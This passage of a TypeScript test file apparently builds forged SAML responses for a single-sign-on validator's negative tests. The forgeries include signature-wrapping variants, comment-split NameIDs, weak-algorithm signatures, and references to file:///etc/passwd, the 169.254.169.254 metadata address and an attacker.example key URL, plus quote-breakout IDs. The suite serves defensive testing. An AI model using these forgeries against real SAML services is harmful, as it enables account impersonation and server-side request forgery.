import { deflateRawSync, gzipSync } from 'node:zlib';
import type { SamlExpectation } from '../../../server/features/sso/sso.saml-checks.domain.ts';
import type { SamlRefusal } from '../../../server/features/sso/sso.saml-refusals.domain.ts';
import { acs, assertion, at, attacker, attribute, authentication, confirmation, confirmationData, dsig, encode, enveloped, exclusive, idp, keys, nameId, person, protocol, requestId, responseXml, restriction, rsaSha256, sha256, signed, signElement, sp, statement, status, type Mode, type Parts, type Signing } from './documents.ts';

/** A document as it is posted, with the codes by which it may be refused, and what its flow expects where that differs. */
export interface Attack {
  readonly name: string;
  readonly codes: readonly SamlRefusal[];
  readonly make: (mode: Mode) => string;
  readonly expected?: Partial<SamlExpectation>;
}

type Changes = { readonly [part in keyof Parts]?: Parts[part] | null };
type Group = readonly Attack[];

const control = (mode: Mode, options?: Signing) => signed(responseXml(), mode, options);

/** What the provider signed, and should not have said to us. */
const said = (name: string, changes: Changes, ...codes: readonly SamlRefusal[]): Attack => ({ name: `signed: ${name}`, codes, make: (mode) => encode(signed(responseXml(changes), mode)) });
/** A signed document changed on its way. */
const edited = (name: string, edit: (xml: string, mode: Mode) => string, ...codes: readonly SamlRefusal[]): Attack => ({
  name: `on the way: ${name}`,
  codes,
  make: (mode) => {
    const before = control(mode);
    const after = edit(before, mode);
    if (after === before) throw new Error(`${name} changes nothing.`);
    return encode(after);
  },
});
const replaced = (name: string, from: string | RegExp, to: string, ...codes: readonly SamlRefusal[]) => edited(name, (xml) => xml.replace(from, () => to), ...codes);
const sent = (name: string, make: (mode: Mode) => string, ...codes: readonly SamlRefusal[]): Attack => ({ name: `sent as: ${name}`, codes, make });
const madeBy = (name: string, options: Signing, ...codes: readonly SamlRefusal[]): Attack => ({ name: `made by: ${name}`, codes, make: (mode) => encode(control(mode, options)) });

const other = 'https://other.example/sso/metadata';
const bearer = (changes: Readonly<Record<string, string | null>>) => confirmation(confirmationData(changes));
const spaced = (attributes: string) => `<saml:Conditions ${attributes}>${restriction(sp)}</saml:Conditions>`;

const wrongWords: Group = [
  said('for another audience', { audience: restriction(other) }, 'audience_wrong'),
  said('for no audience', { audience: '' }, 'audience_missing'),
  said('for an audience that is empty', { audience: restriction('') }, 'audience_wrong'),
  said('for an audience restriction without audience', { audience: '<saml:AudienceRestriction/>' }, 'audience_wrong'),
  said('for two restrictions, one of them not ours', { audience: restriction(sp) + restriction(other) }, 'audience_wrong'),
  said('for an audience that begins like ours', { audience: restriction(`${sp}/x`) }, 'audience_wrong'),
  said('for an audience that ends before ours', { audience: restriction(sp.slice(0, -1)) }, 'audience_wrong'),
  said('for our audience in capitals', { audience: restriction(sp.toUpperCase()) }, 'audience_wrong'),
  said('for our audience with a space', { audience: restriction(` ${sp}`) }, 'audience_wrong'),
  said('for the audience of another connection of ours', { audience: restriction(sp.replace('0001', '0009')) }, 'audience_wrong'),
  said('without conditions', { conditions: '' }, 'audience_missing'),
  said('from another issuer', { responseIssuer: `<saml:Issuer>${other}</saml:Issuer>`, assertionIssuer: `<saml:Issuer>${other}</saml:Issuer>` }, 'response_issuer_wrong'),
  said('a response from another issuer', { responseIssuer: `<saml:Issuer>${other}</saml:Issuer>` }, 'response_issuer_wrong'),
  said('an assertion from another issuer', { assertionIssuer: `<saml:Issuer>${other}</saml:Issuer>` }, 'assertion_issuer_wrong'),
  said('a response without issuer', { responseIssuer: '' }, 'response_issuer_wrong'),
  said('an assertion without issuer', { assertionIssuer: '' }, 'element_missing'),
  said('an issuer of another format', { assertionIssuer: `<saml:Issuer Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress">${idp}</saml:Issuer>` }, 'assertion_issuer_wrong'),
  said('an issuer with a space', { assertionIssuer: `<saml:Issuer>${idp} </saml:Issuer>` }, 'assertion_issuer_wrong'),
  said('two issuers', { assertionIssuer: `<saml:Issuer>${idp}</saml:Issuer><saml:Issuer>${other}</saml:Issuer>` }, 'element_unexpected'),
  said('to another destination', { destination: 'https://other.example/acs' }, 'destination_wrong'),
  said('to the destination of another connection', { destination: acs.replace('0001', '0009') }, 'destination_wrong'),
  said('to no destination', { destination: null }, 'destination_wrong'),
  said('to an empty destination', { destination: '' }, 'destination_wrong'),
  said('to our destination with a query', { destination: `${acs}?a=b` }, 'destination_wrong'),
  said('to our destination over http', { destination: acs.replace('https', 'http') }, 'destination_wrong'),
  said('to another recipient', { confirmation: bearer({ Recipient: 'https://other.example/acs' }) }, 'recipient_wrong'),
  said('to no recipient', { confirmation: bearer({ Recipient: null }) }, 'recipient_wrong'),
  said('to the recipient of another connection', { confirmation: bearer({ Recipient: acs.replace('0001', '0009') }) }, 'recipient_wrong'),
  said('to our recipient with a slash', { confirmation: bearer({ Recipient: `${acs}/` }) }, 'recipient_wrong'),
  said('confirmed by a key', { confirmation: confirmation(confirmationData(), 'urn:oasis:names:tc:SAML:2.0:cm:holder-of-key') }, 'confirmation_method_wrong'),
  said('confirmed by whoever sends it', { confirmation: confirmation(confirmationData(), 'urn:oasis:names:tc:SAML:2.0:cm:sender-vouches') }, 'confirmation_method_wrong'),
  said('confirmed by no method', { confirmation: confirmation(confirmationData(), '') }, 'confirmation_method_wrong'),
  said('confirmed by nothing', { confirmation: '' }, 'confirmation_missing'),
  said('confirmed without data', { confirmation: confirmation('') }, 'recipient_wrong'),
  said('confirmed twice, once for others', { confirmation: bearer({}) + bearer({ Recipient: 'https://other.example/acs' }) }, 'confirmation_repeated'),
  said('confirmed twice', { confirmation: bearer({}) + bearer({}) }, 'confirmation_repeated'),
  said('answering another request', { inResponseTo: '_other', confirmation: bearer({ InResponseTo: '_other' }) }, 'in_response_to_wrong'),
  said('a response to another request', { inResponseTo: '_other' }, 'in_response_to_wrong'),
  said('a confirmation of another request', { confirmation: bearer({ InResponseTo: '_other' }) }, 'in_response_to_wrong'),
  said('answering nothing', { inResponseTo: null, confirmation: bearer({ InResponseTo: null }) }, 'unsolicited'),
  said('a response to nothing', { inResponseTo: null }, 'in_response_to_wrong'),
  said('a confirmation of nothing', { confirmation: bearer({ InResponseTo: null }) }, 'in_response_to_wrong'),
  said('answering our request in capitals', { inResponseTo: requestId.toUpperCase() }, 'in_response_to_wrong'),
  said('answering the empty request', { inResponseTo: '', confirmation: bearer({ InResponseTo: '' }) }, 'in_response_to_wrong'),
  { ...said('answering a request another browser began', {}, 'in_response_to_wrong'), expected: { requestId: '_another-browser' } },
  { ...said('answering while this browser asked nothing', {}, 'in_response_to_wrong'), expected: { requestId: null } },
  said('run out', { conditions: spaced(`NotBefore="${at(-600)}" NotOnOrAfter="${at(-60)}"`) }, 'expired'),
  said('not yet begun', { conditions: spaced(`NotBefore="${at(61)}" NotOnOrAfter="${at(600)}"`) }, 'not_yet_valid'),
  said('valid for ever', { conditions: spaced(`NotBefore="${at(-60)}"`) }, 'time_missing'),
  said('ending before it begins', { conditions: spaced(`NotBefore="${at(30)}" NotOnOrAfter="${at(-30)}"`) }, 'expired'),
  said('a time of no zone', { conditions: spaced(`NotOnOrAfter="2026-11-22T12:05:00"`) }, 'time_malformed'),
  said('a time of another zone', { conditions: spaced(`NotOnOrAfter="2026-11-22T17:50:00+05:45"`) }, 'time_malformed'),
  said('a time in words', { conditions: spaced('NotOnOrAfter="tomorrow"') }, 'time_malformed'),
  said('a time that is empty', { conditions: spaced('NotOnOrAfter=""') }, 'time_malformed'),
  said('a time in milliseconds', { conditions: spaced('NotOnOrAfter="1795349100000"') }, 'time_malformed'),
  said('a confirmation run out', { confirmation: bearer({ NotOnOrAfter: at(-60) }) }, 'expired'),
  said('a confirmation for ever', { confirmation: bearer({ NotOnOrAfter: null }) }, 'time_missing'),
  said('a confirmation not yet begun', { confirmation: bearer({ NotBefore: at(120) }) }, 'not_yet_valid'),
  said('a confirmation whose time is no time', { confirmation: bearer({ NotOnOrAfter: 'never' }) }, 'time_malformed'),
  said('issued tomorrow', { responseInstant: at(86_400), assertionInstant: at(86_400) }, 'issued_in_future'),
  said('a response issued in an hour', { responseInstant: at(3_600) }, 'issued_in_future'),
  said('an assertion issued in an hour', { assertionInstant: at(3_600) }, 'issued_in_future'),
  said('issued at no time', { assertionInstant: null }, 'time_missing'),
  said('a response issued at no time', { responseInstant: null }, 'time_missing'),
  said('a failure', { status: status('urn:oasis:names:tc:SAML:2.0:status:Responder') }, 'status_not_success'),
  said('a request denied', { status: status('urn:oasis:names:tc:SAML:2.0:status:RequestDenied') }, 'status_not_success'),
  said('a success in lower case', { status: status('urn:oasis:names:tc:saml:2.0:status:success') }, 'status_not_success'),
  said('a success below a failure', { status: '<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Responder"><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:StatusCode></samlp:Status>' }, 'status_not_success'),
  said('no status', { status: '' }, 'element_missing'),
  said('two status codes', { status: '<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Responder"/></samlp:Status>' }, 'element_unexpected'),
  said('an empty status', { status: '<samlp:Status/>' }, 'element_missing'),
  said('version 1.1', { responseVersion: '1.1' }, 'version_wrong'),
  said('an assertion of version 1.1', { assertionVersion: '1.1' }, 'version_wrong'),
  said('no version', { responseVersion: null }, 'version_wrong'),
  said('an assertion of no version', { assertionVersion: null }, 'version_wrong'),
  said('no authentication', { authentication: '' }, 'authentication_missing'),
  said('two authentications', { authentication: authentication() + authentication() }, 'authentication_missing'),
  said('a session that is over', { authentication: authentication(`AuthnInstant="${at(-20)}" SessionNotOnOrAfter="${at(-61)}"`) }, 'session_expired'),
  said('a session until no time', { authentication: authentication(`AuthnInstant="${at(-20)}" SessionNotOnOrAfter="soon"`) }, 'time_malformed'),
  said('authenticated tomorrow', { authentication: authentication(`AuthnInstant="${at(86_400)}"`) }, 'issued_in_future'),
  said('authenticated at no time', { authentication: authentication('SessionIndex="_1"') }, 'attribute_missing'),
  { ...said('authenticated before we asked anew', { authentication: authentication(`AuthnInstant="${at(-600)}"`) }, 'authentication_not_fresh'), expected: { authenticatedSince: Date.UTC(2026, 10, 22, 11, 59) } },
  said('an empty NameID', { nameId: nameId('') }, 'name_id_missing'),
  said('an empty NameID beside an attribute nameID', { nameId: nameId(''), attributes: statement(attribute('nameID', attacker)) }, 'name_id_missing'),
  said('an empty NameID element beside an attribute nameID', { nameId: '<saml:NameID/>', attributes: statement(attribute('nameID', attacker), attribute('nameIDFormat', 'x')) }, 'name_id_missing'),
  said('a blank NameID beside an attribute nameID', { nameId: nameId('   '), attributes: statement(attribute('nameID', attacker)) }, 'name_id_missing'),
  said('no NameID beside an attribute nameID', { nameId: '', attributes: statement(attribute('nameID', attacker)) }, 'name_id_missing'),
  said('no subject beside an attribute nameID', { subject: '', attributes: statement(attribute('nameID', attacker)) }, 'confirmation_missing'),
  said('two NameIDs', { nameId: nameId(person) + nameId(attacker) }, 'element_unexpected'),
  said('two subjects', { subject: `<saml:Subject>${nameId(person)}${bearer({})}</saml:Subject><saml:Subject>${nameId(attacker)}${bearer({})}</saml:Subject>` }, 'element_unexpected'),
  said('a NameID in an element', { nameId: '<saml:NameID><saml:NameID>owner@customer.example</saml:NameID></saml:NameID>' }, 'element_unexpected'),
  said('a NameID with a space behind', { nameId: nameId(`${attacker} `) }, 'name_id_malformed'),
  said('a NameID on two lines', { nameId: nameId(`${attacker}\n`) }, 'name_id_malformed'),
  said('a NameID with a line end written out', { nameId: nameId(`${attacker}&#13;`) }, 'name_id_malformed'),
  said('a NameID with an invisible character', { nameId: nameId('owner\u200D@customer.example') }, 'name_id_malformed'),
  said('a NameID written backwards', { nameId: nameId('\u202Eelpmaxe.remotsuc@renwo') }, 'name_id_malformed'),
  said('a NameID of 100 KB', { nameId: nameId('a'.repeat(100_000)) }, 'xml_value_too_long'),
  said('a NameID of 300 characters', { nameId: nameId('a'.repeat(300)) }, 'name_id_malformed'),
  said('a passing NameID', { nameId: nameId(person, ' Format="urn:oasis:names:tc:SAML:2.0:nameid-format:transient"') }, 'name_id_transient'),
  said('an encrypted NameID', { nameId: '<saml:EncryptedID/>' }, 'encrypted'),
  said('an encrypted attribute', { attributes: statement('<saml:EncryptedAttribute/>') }, 'encrypted'),
  said('an attribute named as the prototype', { attributes: statement(attribute('__proto__', attacker)) }, 'readers_disagree'),
  said('an attribute that holds an element', { attributes: statement(`<saml:Attribute Name="email"><saml:AttributeValue>${nameId(attacker)}</saml:AttributeValue></saml:Attribute>`) }, 'element_unexpected'),
  said('an attribute without name', { attributes: statement('<saml:Attribute><saml:AttributeValue>a</saml:AttributeValue></saml:Attribute>') }, 'attribute_missing'),
  said('an advice', { afterAttributes: `<saml:Advice><saml:AssertionIDRef>_x</saml:AssertionIDRef></saml:Advice>` }, 'element_unexpected'),
  said('an authorization decision', { afterAttributes: '<saml:AuthzDecisionStatement Resource="x" Decision="Permit"/>' }, 'element_unexpected'),
  said('extensions', { beforeStatus: '<samlp:Extensions><x xmlns="urn:x"/></samlp:Extensions>' }, 'element_unexpected'),
  said('text between elements', { beforeStatus: 'owner' }, 'text_unexpected'),
  said('an unknown attribute of the response', { responseAttributes: ' id="_x"' }, 'attribute_unexpected'),
  said('an unknown attribute of the assertion', { assertionAttributes: ' Id="_x"' }, 'attribute_unexpected'),
  said('an id that breaks out of a query', { assertionId: "_a' or '1'='1" }, 'id_malformed', 'xml_malformed'),
  said('a request id beside another case of the name', { responseAttributes: ` inresponseto="${requestId}"` }, 'attribute_unexpected'),
];

const assertionIn = (xml: string) => /<saml:Assertion [^]*<\/saml:Assertion>/u.exec(xml)?.[0] ?? '';
const signatureIn = (xml: string) => /<ds:Signature [^]*?<\/ds:Signature>/u.exec(xml)?.[0] ?? '';
const unsigned = (xml: string) => xml.replace(/<ds:Signature [^]*?<\/ds:Signature>/gu, '');
const own = (xml: string, root: string) => xml.replace(new RegExp(`^<${root}`, 'u'), () => `<${root} xmlns:samlp="${protocol}" xmlns:saml="${assertion}"`);

/** Where the signed element is hidden in the forged one; `inner` stands alone with its own namespaces. */
const hideouts: readonly (readonly [string, (forged: string, inner: string) => string])[] = [
  ['before it', (forged, inner) => forged.replace('<saml:Assertion ', () => `${inner}<saml:Assertion `)],
  ['behind it', (forged, inner) => forged.replace('</saml:Assertion>', () => `</saml:Assertion>${inner}`)],
  ['in extensions', (forged, inner) => forged.replace('<samlp:Status>', () => `<samlp:Extensions>${inner}</samlp:Extensions><samlp:Status>`)],
  ['in the status', (forged, inner) => forged.replace('</samlp:Status>', () => `<samlp:StatusDetail>${inner}</samlp:StatusDetail></samlp:Status>`)],
  ['in its advice', (forged, inner) => forged.replace('<saml:AuthnStatement', () => `<saml:Advice>${inner}</saml:Advice><saml:AuthnStatement`)],
  ['in its subject', (forged, inner) => forged.replace('</saml:Subject>', () => `${inner}</saml:Subject>`)],
  ['in an attribute', (forged, inner) => forged.replace('</saml:AttributeValue>', () => `${inner}</saml:AttributeValue>`)],
  ['in an object of the signature', (forged, inner) => (forged.includes('</ds:Signature>') ? forged.replace('</ds:Signature>', () => `<ds:Object>${inner}</ds:Object></ds:Signature>`) : forged.replace('<saml:Subject>', () => `<ds:Signature xmlns:ds="${dsig}"><ds:Object>${inner}</ds:Object></ds:Signature><saml:Subject>`))],
];

const structural: readonly SamlRefusal[] = ['assertion_repeated', 'assertion_misplaced', 'signature_misplaced', 'signature_reference', 'element_unexpected', 'element_missing', 'id_repeated', 'content_changed', 'signature_missing'];

/** Signature wrapping: the eight known forms and their kin, for the element that is signed. */
function wrapped(mode: Mode, of: 'response' | 'assertion', hide: (forged: string, inner: string) => string, sameId: boolean, signatureStays: 'inside' | 'moves' | 'both'): string {
  const xml = control(mode);
  const element = of === 'assertion' ? assertionIn(xml) : xml;
  const found = signatureIn(element);
  const inner = own(signatureStays === 'moves' ? element.replace(found, '') : element, of === 'assertion' ? 'saml:Assertion' : 'samlp:Response').replaceAll(/ xmlns:samlp="[^"]*"(?=[^>]* xmlns:samlp=)| xmlns:saml="[^"]*"(?=[^>]* xmlns:saml=)/gu, '');
  const evil = unsigned(xml).replaceAll(person, attacker);
  const renamed = sameId ? evil : evil.replace(of === 'assertion' ? '_assertion1' : '_response1', '_forged1');
  const forged = signatureStays === 'inside' ? renamed : of === 'assertion' ? renamed.replace(`<saml:Issuer>${idp}</saml:Issuer><saml:Subject>`, () => `<saml:Issuer>${idp}</saml:Issuer>${found}<saml:Subject>`) : renamed.replace('<samlp:Status>', () => `${found}<samlp:Status>`);
  return encode(hide(forged, inner));
}

const wrapping: Group = hideouts.flatMap(([place, hide]) =>
  [true, false].flatMap((sameId) =>
    (['inside', 'moves', 'both'] as const).map((signatureStays): Attack => ({
      name: `wrapped: the signed one ${place}, the forged one with ${sameId ? 'the same id' : 'an id of its own'}, the signature ${signatureStays}`,
      codes: structural,
      make: (mode) => wrapped(mode, mode === 'response' ? 'response' : 'assertion', hide, sameId, signatureStays),
    })),
  ),
);

const dropSignature = (of: 'response' | 'assertion') => (xml: string, mode: Mode) => {
  if (mode !== 'both') return unsigned(xml);
  const inner = signatureIn(assertionIn(xml));
  return of === 'assertion' ? xml.replace(inner, '') : xml.replace(signatureIn(xml), '').replaceAll(person, attacker);
};

const edits: Group = [
  edited('another NameID', (xml) => xml.replace(`>${person}</saml:NameID>`, `>${attacker}</saml:NameID>`), 'content_changed'),
  edited('another e-mail', (xml) => xml.replace(`>${person}</saml:AttributeValue>`, `>${attacker}</saml:AttributeValue>`), 'content_changed'),
  edited('one more group', (xml) => xml.replace('<saml:AttributeStatement>', () => `<saml:AttributeStatement>${attribute('role', 'owner')}`), 'content_changed'),
  edited('all signatures gone', unsigned, 'signature_missing'),
  edited('the signature of the assertion gone', dropSignature('assertion'), 'signature_missing', 'content_changed'),
  edited('the signature of the response gone and another person', dropSignature('response'), 'signature_missing', 'content_changed'),
  replaced('an audience added', '</saml:AudienceRestriction>', `<saml:Audience>${other}</saml:Audience></saml:AudienceRestriction>`, 'content_changed'),
  replaced('a later end', at(300), at(99_999), 'content_changed'),
  replaced('another assertion id', /_assertion1/gu, '_assertion2', 'content_changed', 'signature_invalid'),
  replaced('another assertion id, its reference left', 'ID="_assertion1"', 'ID="_assertion2"', 'content_changed', 'signature_reference'),
  replaced('another session', '_session1', '_session2', 'content_changed'),
  replaced('another class of authentication', 'PasswordProtectedTransport', 'TimeSyncToken', 'content_changed'),
  replaced('another qualifier', ' Format="urn:oasis:names:tc:SAML:2.0:nameid-format:persistent"', ' Format="urn:oasis:names:tc:SAML:2.0:nameid-format:persistent" NameQualifier="x"', 'content_changed'),
  replaced('a digest of something else', /<ds:DigestValue>[^<]*/u, '<ds:DigestValue>47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=', 'signature_invalid'),
  replaced('an empty digest', /<ds:DigestValue>[^<]*/u, '<ds:DigestValue>', 'signature_value'),
  replaced('a digest with something before it', '<ds:DigestValue>', '<ds:DigestValue>AAAA', 'signature_invalid', 'signature_value'),
  replaced('a digest in two elements', /<ds:DigestValue>/u, '<ds:DigestValue>AAAA</ds:DigestValue><ds:DigestValue>', 'element_unexpected'),
  replaced('a digest with a comment', '<ds:DigestValue>', '<ds:DigestValue><!-- x -->', 'xml_comment'),
  replaced('an empty signature', /<ds:SignatureValue>[^<]*/u, '<ds:SignatureValue>', 'signature_value'),
  replaced('a signature of zeros', /<ds:SignatureValue>[^<]*/u, `<ds:SignatureValue>${'A'.repeat(342)}==`, 'signature_invalid'),
  replaced('a short signature', /<ds:SignatureValue>[^<]*/u, '<ds:SignatureValue>AAAA', 'signature_invalid'),
  replaced('a signature with other signs', /<ds:SignatureValue>/u, '<ds:SignatureValue>*', 'signature_value'),
  replaced('no signature value', /<ds:SignatureValue>[^<]*<\/ds:SignatureValue>/u, '', 'element_missing'),
  replaced('no signed info', /<ds:SignedInfo>[^]*?<\/ds:SignedInfo>/u, '', 'element_missing'),
  replaced('two signed infos', /<ds:SignedInfo>[^]*?<\/ds:SignedInfo>/u, '<ds:SignedInfo/><ds:SignedInfo/>', 'element_unexpected', 'element_missing'),
  edited('a signed info before the signed one', (xml) => xml.replace('<ds:SignedInfo>', () => `${/<ds:SignedInfo>[^]*?<\/ds:SignedInfo>/u.exec(xml)?.[0] ?? ''}<ds:SignedInfo>`), 'element_unexpected'),
  edited('a signed info behind the signed one', (xml) => xml.replace('</ds:SignedInfo>', () => `</ds:SignedInfo>${/<ds:SignedInfo>[^]*?<\/ds:SignedInfo>/u.exec(xml)?.[0] ?? ''}`), 'element_unexpected'),
  replaced('no reference', /<ds:Reference [^]*?<\/ds:Reference>/u, '', 'signature_reference'),
  edited('two references', (xml) => xml.replace('</ds:Reference>', () => `</ds:Reference>${/<ds:Reference [^]*?<\/ds:Reference>/u.exec(xml)?.[0] ?? ''}`), 'signature_reference'),
  replaced('a reference to the whole document', / URI="#[^"]*"/u, ' URI=""', 'signature_reference'),
  replaced('a reference to nothing', / URI="#[^"]*"/u, '', 'signature_reference'),
  replaced('a reference to another element', / URI="#[^"]*"/u, ' URI="#_other"', 'signature_reference'),
  replaced('a reference to a file', / URI="#[^"]*"/u, ' URI="file:///etc/passwd"', 'signature_reference'),
  replaced('a reference to the network', / URI="#[^"]*"/u, ' URI="http://169.254.169.254/latest"', 'signature_reference'),
  replaced('a reference by XPointer', / URI="#[^"]*"/u, ' URI="#xpointer(/)"', 'signature_reference'),
  replaced('a reference by XPointer to the id', / URI="#([^"]*)"/u, ` URI="#xpointer(id('_assertion1'))"`, 'signature_reference'),
  replaced('a reference that breaks out of a query', / URI="#[^"]*"/u, ` URI="#_x' or '1'='1"`, 'signature_reference'),
  edited('the signature twice', (xml) => xml.replace('</ds:Signature>', () => `</ds:Signature>${signatureIn(xml)}`), 'signature_misplaced'),
  edited('the signature at the end', (xml) => xml.replace(signatureIn(xml), '').replace('</samlp:Response>', () => `${signatureIn(xml)}</samlp:Response>`), 'signature_misplaced'),
  edited('the signature at the end of the assertion', (xml) => xml.replace(signatureIn(xml), '').replace('</saml:Assertion>', () => `${signatureIn(xml)}</saml:Assertion>`), 'signature_misplaced'),
  edited('the signature in the subject', (xml) => xml.replace(signatureIn(xml), '').replace('<saml:Subject>', () => `<saml:Subject>${signatureIn(xml)}`), 'signature_misplaced'),
  edited('the signature in the status', (xml) => xml.replace(signatureIn(xml), '').replace('<samlp:Status>', () => `<samlp:Status>${signatureIn(xml)}`), 'signature_misplaced'),
  edited('the signature on the other element', (xml, mode) => (mode === 'assertion' ? xml.replace(signatureIn(xml), '').replace('<samlp:Status>', () => `${signatureIn(xml)}<samlp:Status>`) : xml.replace(signatureIn(xml), '').replace('<saml:Subject>', () => `${signatureIn(xml)}<saml:Subject>`)), 'signature_reference', 'signature_misplaced'),
  edited('the same assertion twice', (xml) => xml.replace('</saml:Assertion>', () => `</saml:Assertion>${assertionIn(xml)}`), 'assertion_repeated'),
  edited('no assertion', (xml) => xml.replace(assertionIn(xml), ''), 'assertion_missing', 'content_changed'),
  edited('the assertion alone', (xml) => own(assertionIn(xml), 'saml:Assertion'), 'element_unexpected'),
  edited('a response in a response', (xml) => xml.replace('<saml:Assertion ', () => `${xml}<saml:Assertion `), 'element_unexpected'),
  edited('an encrypted assertion beside it', (xml) => xml.replace('</saml:Assertion>', '</saml:Assertion><saml:EncryptedAssertion/>'), 'encrypted'),
  edited('an encrypted assertion in its place', (xml) => xml.replace(assertionIn(xml), `<saml:EncryptedAssertion><xenc:EncryptedData xmlns:xenc="http://www.w3.org/2001/04/xmlenc#"/></saml:EncryptedAssertion>`), 'encrypted'),
  edited('an answer to a logout', (xml) => xml.replaceAll('samlp:Response', 'samlp:LogoutResponse'), 'element_unexpected'),
  edited('another root', (xml) => `<root>${xml}</root>`, 'element_unexpected'),
];

const transformed = (name: string, to: string, ...codes: readonly SamlRefusal[]) => replaced(name, /<ds:Transforms>[^]*?<\/ds:Transforms>/u, `<ds:Transforms>${to}</ds:Transforms>`, ...codes);
const transform = (algorithm: string, inside = '') => `<ds:Transform Algorithm="${algorithm}">${inside}</ds:Transform>`;
const algorithms: Group = [
  madeBy('SHA-1 throughout', { algorithm: `${dsig}rsa-sha1`, digest: `${dsig}sha1` }, 'signature_algorithm'),
  madeBy('a signature over SHA-1', { algorithm: `${dsig}rsa-sha1` }, 'signature_algorithm'),
  madeBy('a digest of SHA-1', { digest: `${dsig}sha1` }, 'signature_algorithm'),
  madeBy("an HMAC with the certificate's text", { algorithm: `${dsig}hmac-sha1`, hmac: true }, 'signature_algorithm'),
  madeBy('inclusive canonicalization of the signed info', { canonicalization: 'http://www.w3.org/TR/2001/REC-xml-c14n-20010315' }, 'signature_transform'),
  madeBy('canonicalization that keeps comments', { canonicalization: `${exclusive}WithComments` }, 'signature_transform'),
  madeBy('an inclusive transform', { transforms: [enveloped, 'http://www.w3.org/TR/2001/REC-xml-c14n-20010315'] }, 'signature_transform'),
  madeBy('a transform that keeps comments', { transforms: [enveloped, `${exclusive}WithComments`] }, 'signature_transform'),
  madeBy('the transforms the other way round', { transforms: [exclusive, enveloped] }, 'signature_transform'),
  madeBy('one transform', { transforms: [enveloped] }, 'signature_transform'),
  madeBy('three transforms', { transforms: [enveloped, exclusive, exclusive] }, 'signature_transform'),
  madeBy("a stranger's key", { key: keys.stranger }, 'certificate_unknown'),
  madeBy("a stranger's key under our provider's certificate", { key: keys.stranger, named: keys.idp }, 'signature_invalid'),
  madeBy("a stranger's key, no certificate named", { key: keys.stranger, named: null }, 'signature_invalid'),
  transformed('an XSLT', transform('http://www.w3.org/TR/1999/REC-xslt-19991116', '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>'), 'element_unexpected', 'signature_transform'),
  transformed('an XPath', transform('http://www.w3.org/TR/1999/REC-xpath-19991116', '<ds:XPath>not(self::saml:NameID)</ds:XPath>'), 'element_unexpected'),
  transformed('an XPath without expression', transform('http://www.w3.org/TR/1999/REC-xpath-19991116') + transform(exclusive), 'signature_transform'),
  transformed('an XPath filter', transform('http://www.w3.org/2002/06/xmldsig-filter2'), 'signature_transform'),
  transformed('base64', transform(enveloped) + transform(`${dsig}base64`), 'signature_transform'),
  transformed('no transform', '', 'signature_transform'),
  transformed('a thousand transforms', transform(exclusive).repeat(990), 'signature_transform', 'xml_too_many_elements'),
  transformed('five hundred prefixes', transform(enveloped) + transform(exclusive, `<ec:InclusiveNamespaces xmlns:ec="${exclusive}" PrefixList="${'a '.repeat(500)}"/>`), 'signature_transform'),
  replaced('no transforms at all', /<ds:Transforms>[^]*?<\/ds:Transforms>/u, '', 'element_missing'),
  replaced('no algorithm', ` Algorithm="${rsaSha256}"`, '', 'attribute_missing'),
  replaced('an unknown algorithm', rsaSha256, 'http://www.w3.org/2001/04/xmldsig-more#rsa-none', 'signature_algorithm'),
  replaced('an empty algorithm', rsaSha256, '', 'signature_algorithm'),
  replaced('MD5', rsaSha256, 'http://www.w3.org/2001/04/xmldsig-more#rsa-md5', 'signature_algorithm'),
  replaced('DSA', rsaSha256, `${dsig}dsa-sha1`, 'signature_algorithm'),
  replaced('HMAC by name', rsaSha256, 'http://www.w3.org/2001/04/xmldsig-more#hmac-sha256', 'signature_algorithm'),
  replaced('a shortened HMAC', `<ds:SignatureMethod Algorithm="${rsaSha256}"/>`, `<ds:SignatureMethod Algorithm="${dsig}hmac-sha1"><ds:HMACOutputLength>1</ds:HMACOutputLength></ds:SignatureMethod>`, 'element_unexpected'),
  replaced('another hash named', rsaSha256, 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha512', 'signature_invalid'),
  replaced('another digest named', sha256, 'http://www.w3.org/2001/04/xmlenc#sha512', 'signature_invalid'),
  replaced('PSS named', rsaSha256, 'http://www.w3.org/2007/05/xmldsig-more#sha256-rsa-MGF1', 'signature_invalid'),
  replaced('a key by address', /<ds:KeyInfo>[^]*?<\/ds:KeyInfo>/u, '<ds:KeyInfo><ds:RetrievalMethod URI="http://attacker.example/key"/></ds:KeyInfo>', 'element_unexpected'),
  edited('an assertion signed by a stranger in a response signed by nobody', (xml) => signElement(unsigned(xml).replaceAll(person, attacker), 'assertion', { key: keys.stranger }), 'certificate_unknown'),
  edited('a response signed by a stranger around it', (xml) => signElement(xml.replace(xml === unsigned(xml) ? '' : signatureIn(xml), ''), 'response', { key: keys.stranger }), 'certificate_unknown', 'content_changed'),
  edited('signed by two of the certificates', (xml) => signElement(signElement(unsigned(xml), 'assertion', { key: keys.idp }), 'response', { key: keys.next }), 'readers_disagree'),
];

const inNameId = (to: string) => (xml: string) => xml.replace(`>${person}<`, () => `>${to}<`);
const doctype = (xml: string, body: string) => `<!DOCTYPE r [${body}]>${xml}`;
const xmlTricks: Group = [
  edited('a comment in the NameID', inNameId('ana.petrova@customer.example<!---->'), 'xml_comment'),
  edited('a comment within the NameID', inNameId('ana.petrova<!-- -->@customer.example'), 'xml_comment'),
  { name: 'signed: a NameID of two, cut by a comment', codes: ['xml_comment'], make: (mode) => encode(signed(responseXml({ nameId: nameId(`${attacker}.evil.example`) }), mode).replace(`${attacker}.evil`, `${attacker}<!---->.evil`)) },
  edited('a comment in an attribute', (xml) => xml.replace('>Sales<', '><!--a-->Sales<'), 'xml_comment'),
  edited('a comment at the end', (xml) => `${xml}<!-- -->`, 'xml_comment'),
  edited('a comment at the beginning', (xml) => `<!-- -->${xml}`, 'xml_comment'),
  edited('an instruction in the NameID', inNameId('ana.petrova@customer.example<?x ?>'), 'xml_processing_instruction'),
  edited('an instruction at the beginning', (xml) => `<?xml-stylesheet href="a"?>${xml}`, 'xml_processing_instruction'),
  edited('a declaration in the middle', (xml) => xml.replace('<samlp:Status>', '<?xml version="1.0"?><samlp:Status>'), 'xml_processing_instruction'),
